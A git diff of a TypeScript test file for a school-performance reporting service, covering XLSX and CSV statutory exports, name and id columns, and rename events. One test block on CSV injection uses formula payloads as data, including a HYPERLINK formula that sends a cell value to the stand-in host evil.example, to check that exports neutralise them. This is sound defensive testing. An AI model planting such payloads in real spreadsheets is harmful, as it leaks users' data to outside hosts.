@@ -11,7 +11,7 @@ import { useTestEnvironment } from "@otmetka/testing";
 import ExcelJS from "exceljs";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { DEFAULT_METRICS_CONFIG, type MetricsConfig } from "./domain/metrics/definitions.js";
-import { performanceReport, REPORT_COLUMNS } from "./exports/performance-report.js";
+import { performanceReport, reportColumns } from "./exports/performance-report.js";
 import { reportCsv, reportXlsx } from "./exports/render.js";
 import { reportingProjection } from "./projections/projection.js";
 import { type DashboardQuery, dashboard } from "./queries/dashboards.js";
@@ -192,6 +192,17 @@ describe("definition versions", () => {
   });
 });
 
+/** A worksheet's rows as arrays of cell values, and the row whose first cell is `label`. */
+const sheet = (ws: ExcelJS.Worksheet | undefined) => {
+  if (!ws) throw new Error("no worksheet");
+  const cells = (r: number) => (ws.getRow(r).values as unknown[]).slice(1);
+  const find = (label: string) => {
+    for (let r = 1; r <= ws.rowCount; r++) if (cells(r)[0] === label) return cells(r);
+    throw new Error(`no row ${label}`);
+  };
+  return { cells, find };
+};
+
 describe("statutory export", () => {
   it("the XLSX, opened with exceljs, holds the dashboard's figures, the version and the as-of date", async () => {
     const report = await performanceReport(h.db, config, {
@@ -205,34 +216,33 @@ describe("statutory export", () => {
     });
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load((await reportXlsx(report)) as unknown as ExcelJS.Buffer);
-    const ws = wb.worksheets[0];
-    if (!ws) throw new Error("no worksheet");
-    const cells = (r: number) => (ws.getRow(r).values as unknown[]).slice(1);
-    const find = (label: string) => {
-      for (let r = 1; r <= ws.rowCount; r++) if (cells(r)[0] === label) return r;
-      throw new Error(`no row ${label}`);
-    };
-    expect(cells(find("По состоянию на"))[1]).toBe(D);
-    expect(cells(find("Версия определений"))[1]).toBe(1);
-    const header = find("Подразделение");
-    expect(cells(header)).toEqual([...REPORT_COLUMNS]);
-    for (const [label, subjectId] of [
-      [f.math, f.math],
-      [f.pe, f.pe],
-      ["Итого", ""],
+    const { find } = sheet(wb.worksheets[0]);
+    expect(find("По состоянию на")[1]).toBe(D);
+    expect(find("Версия определений")[1]).toBe(1);
+    // The school by name, and by id for machines.
+    expect(find("Школа")[1]).toBe(f.names.school);
+    expect(find("Идентификатор школы")[1]).toBe(f.schoolId);
+    const header = find("Предмет");
+    expect(header).toEqual(reportColumns("SCHOOL"));
+    const at = (row: unknown[], column: string) => row[header.indexOf(column)];
+    for (const [label, id, subjectId] of [
+      [f.names.math, f.math, f.math],
+      [f.names.pe, f.pe, f.pe],
+      ["Итого", "", ""],
     ] as const) {
-      const row = cells(find(label));
+      const row = find(label);
+      expect(at(row, "Идентификатор") ?? "").toBe(id);
       const d = await dash({ level: "SCHOOL", scopeId: f.schoolId, subjectId, mode: "RECORDED" });
       const p = d.performance;
-      expect(row[1]).toBe(p?.pupilCount.value);
-      expect(row[2]).toBeCloseTo((p?.passRate.value ?? 0) * 100, 1);
-      expect(row[4] ?? null).toBe(
+      expect(at(row, "Учащихся (N)")).toBe(p?.pupilCount.value);
+      expect(at(row, "Успеваемость, %")).toBeCloseTo((p?.passRate.value ?? 0) * 100, 1);
+      expect(at(row, "СОУ, %") ?? null).toBe(
         p?.degreeOfLearning.value == null ? null : Math.round(p.degreeOfLearning.value * 100) / 100,
       );
-      expect(row[7]).toBe(p?.distribution.results["5"]);
+      expect(at(row, "«5»")).toBe(p?.distribution.results["5"]);
     }
     // Maths at the school on D: p1..p5 and p8 of 5А, and p7, moved to 5Б of the same school.
-    expect(cells(find(f.math))[1]).toBe(7);
+    expect(at(find(f.names.math), "Учащихся (N)")).toBe(7);
   });
 
   it("CSV carries a BOM and Russian headings; the gRPC call answers bytes for a municipality", async () => {
@@ -247,6 +257,16 @@ describe("statutory export", () => {
     );
     expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(csv.toString("utf8")).toContain("Успеваемость, %");
+    // Read back: the names beside the ids, in the heading and the rows.
+    const read = new ExcelJS.Workbook();
+    const csvSheet = sheet(
+      await read.csv.read(Readable.from([csv.subarray(3)]), { map: (v: unknown) => v }),
+    );
+    expect(csvSheet.find("Школа")[1]).toBe(f.names.school);
+    expect(csvSheet.find("Идентификатор школы")[1]).toBe(f.schoolId);
+    expect(csvSheet.find("Предмет")).toEqual(reportColumns("SCHOOL"));
+    expect(csvSheet.find(f.names.math)[1]).toBe(f.math);
+    expect(csvSheet.find(f.names.pe)[1]).toBe(f.pe);
     const api = await startApi(h.db, config);
     try {
       const md = await api.as([`MUNICIPAL_OFFICER@municipality:${f.municipalityId}`], "m1");
@@ -268,9 +288,12 @@ describe("statutory export", () => {
       expect(r.fileName).toMatch(/v2\.xlsx$/);
       const wb = new ExcelJS.Workbook();
       await wb.xlsx.load(Buffer.from(r.content) as unknown as ExcelJS.Buffer);
-      const values = wb.worksheets[0]?.getColumn(1).values ?? [];
-      expect(values).toContain(f.schoolId);
-      expect(values).toContain("Итого");
+      const { find } = sheet(wb.worksheets[0]);
+      expect(find("Муниципалитет")[1]).toBe(f.names.municipality);
+      expect(find("Идентификатор муниципалитета")[1]).toBe(f.municipalityId);
+      expect(find("Школа")).toEqual(reportColumns("MUNICIPALITY"));
+      expect(find(f.names.school)[1]).toBe(f.schoolId);
+      expect(find("Итого")).toBeDefined();
       const dm = await api.client.getDashboards(
         {
           queries: [
@@ -318,15 +341,22 @@ describe("statutory export of caller-controlled text (CSV injection)", () => {
   // A ministry officer may name any municipality: the scope id lands in a text cell as given.
   const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];
   const hyperlink = (start: string) => `${start}HYPERLINK("http://evil.example/?"&A1,"x")`;
-  // A municipality is exported only once a school of it is replicated: one school each.
+  // A municipality is exported only once a school of it is replicated: one school each,
+  // neither with a name (their events were not seen: the id alone shows).
+  const schoolOf = new Map(
+    FORMULA_STARTS.flatMap((start) => [hyperlink(start), `${start}1+2`]).map((m) => [
+      m,
+      randomUUID(),
+    ]),
+  );
   beforeAll(async () => {
     await h.publish(
-      FORMULA_STARTS.flatMap((start) => [hyperlink(start), `${start}1+2`]).map((municipalityId) =>
+      [...schoolOf].map(([municipalityId, schoolId]) =>
         feedEvent(
           "identity",
-          randomUUID(),
+          schoolId,
           "SchoolRegistered",
-          { schoolId: randomUUID(), municipalityId, timeZone: "Asia/Yekaterinburg" },
+          { schoolId, municipalityId, timeZone: "Asia/Yekaterinburg" },
           at(D),
         ),
       ),
@@ -352,14 +382,15 @@ describe("statutory export of caller-controlled text (CSV injection)", () => {
       },
       await api.as(["MINISTRY_OFFICER@region:74"], "ministry"),
     );
-  /** The second cell of the row whose first cell is the label, as the same library reads it back. */
-  const secondCell = (ws: ExcelJS.Worksheet, label: string) => {
+  /** Cell `n` of the row whose first cell is the label, as the same library reads it back. */
+  const cellOf = (ws: ExcelJS.Worksheet, label: string, n = 2) => {
     for (let r = 1; r <= ws.rowCount; r++) {
       const row = ws.getRow(r);
-      if (row.getCell(1).value === label) return row.getCell(2);
+      if (row.getCell(1).value === label) return row.getCell(n);
     }
     throw new Error(`no row ${label}`);
   };
+  const pupilsColumn = reportColumns("MUNICIPALITY").indexOf("Учащихся (N)") + 1;
 
   it("a CSV text cell that would start a formula gets a leading apostrophe; figures stay numbers", async () => {
     const api = await startApi(h.db, config);
@@ -373,9 +404,15 @@ describe("statutory export of caller-controlled text (CSV injection)", () => {
         const ws = await wb.csv.read(Readable.from([content.subarray(3)]), {
           map: (v: unknown) => v,
         });
-        expect(secondCell(ws, "Муниципалитет").value).toBe(`'${scopeId}`);
+        expect(cellOf(ws, "Идентификатор муниципалитета").value).toBe(`'${scopeId}`);
+        // No MunicipalityRegistered / no school name seen: empty names beside the ids.
+        expect(cellOf(ws, "Муниципалитет").value ?? "").toBe("");
+        const school = ws
+          .getRows(1, ws.rowCount)
+          ?.find((row) => row.getCell(2).value === schoolOf.get(scopeId));
+        expect(school?.getCell(1).value ?? "").toBe("");
         // The total row's pupil count is a figure: written as a number, no apostrophe.
-        expect(secondCell(ws, "Итого").value).toBe("0");
+        expect(cellOf(ws, "Итого", pupilsColumn).value).toBe("0");
       }
     } finally {
       await api.close();
@@ -392,7 +429,7 @@ describe("statutory export of caller-controlled text (CSV injection)", () => {
         await wb.xlsx.load(Buffer.from(r.content) as unknown as ExcelJS.Buffer);
         const ws = wb.worksheets[0];
         if (!ws) throw new Error("no worksheet");
-        const cell = secondCell(ws, "Муниципалитет");
+        const cell = cellOf(ws, "Идентификатор муниципалитета");
         expect(cell.type).toBe(ExcelJS.ValueType.String);
         expect(cell.formula).toBeUndefined();
         // XML reads a carriage return in text back as a line feed (exceljs writes it raw).
@@ -401,6 +438,35 @@ describe("statutory export of caller-controlled text (CSV injection)", () => {
     } finally {
       await api.close();
     }
+  });
+});
+
+describe("statutory export names", () => {
+  it("follow MunicipalityRenamed and SchoolRenamed; a school not named yet shows its id only", async () => {
+    const municipalityId = randomUUID();
+    const [named, unnamed] = [randomUUID(), randomUUID()];
+    const identity = (stream: string, name: string, v: Record<string, unknown>) =>
+      feedEvent("identity", stream, name, { municipalityId, ...v }, at(D));
+    await h.publish([
+      identity(municipalityId, "MunicipalityRegistered", { name: "Озёрский городской округ" }),
+      identity(named, "SchoolRegistered", { schoolId: named, name: "Лицей № 1" }),
+      identity(unnamed, "SchoolRegistered", { schoolId: unnamed }),
+      identity(municipalityId, "MunicipalityRenamed", { name: "Озёрский округ" }),
+      identity(named, "SchoolRenamed", { schoolId: named, name: "Лицей № 2" }),
+    ]);
+    await h.caughtUp();
+    const report = await performanceReport(h.db, config, {
+      level: "MUNICIPALITY",
+      scopeId: municipalityId,
+      startYear: 2026,
+      term: 0,
+      asOf: D,
+    });
+    expect(report.scopeName).toBe("Озёрский округ");
+    expect(report.rows.map((r) => [r.name, r.unit])).toEqual([
+      ["Лицей № 2", named],
+      ["", unnamed],
+    ]);
   });
 });
 
